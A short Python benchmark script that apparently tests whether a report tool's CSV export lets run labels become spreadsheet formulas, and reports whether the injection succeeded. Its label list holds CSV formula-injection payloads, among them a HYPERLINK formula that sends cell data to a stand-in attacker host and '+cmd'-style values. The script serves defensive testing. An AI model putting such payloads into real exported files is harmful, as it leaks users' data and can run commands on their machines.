"""A run's label that begins with = stands as a formula in the table that motley report writes for a
spreadsheet.

python benchmarks/privacy_attacks/csv_formula.py
"""

from __future__ import annotations

import csv
import io
import json

from motley_report.print_tables import PrintTable, as_csv

LABELS = [
    '=HYPERLINK("http://attacker.example/?"&B2,"open")',
    "+1+cmd",
    "-1+cmd",
    "@SUM(cell)",
    "a\r=1+1",
    "a;=1+1",
]
NUMBERS = ["-3.5", "1e-07"]


def main() -> None:
    rows = [(label, list(NUMBERS)) for label in LABELS]
    text = as_csv(PrintTable("summary", "", [("accuracy", "%"), ("loss", "")], rows, {}))
    table = list(csv.reader(io.StringIO(text.replace("\r", "\n"), newline="")))[1:]
    for_semicolons = [
        cell for line in text.replace("\r", "\n").splitlines() for cell in line.split(";")
    ]
    cells = {cell for row in table for cell in row} | set(for_semicolons)
    formulas = [cell for cell in cells if cell[:1] in set("=+-@") and cell not in NUMBERS]
    numbers_left = all(row[1:] == NUMBERS for row in table if len(row) == 1 + len(NUMBERS))
    figure = (
        f"{len(formulas)} cells are formulas of {len(LABELS)} labels; numbers stay numbers: "
        f"{numbers_left}"
    )
    print(
        json.dumps(
            {"fault": "formulas in CSV files", "succeeded": bool(formulas), "figure": figure}
        )
    )


if __name__ == "__main__":
    main()
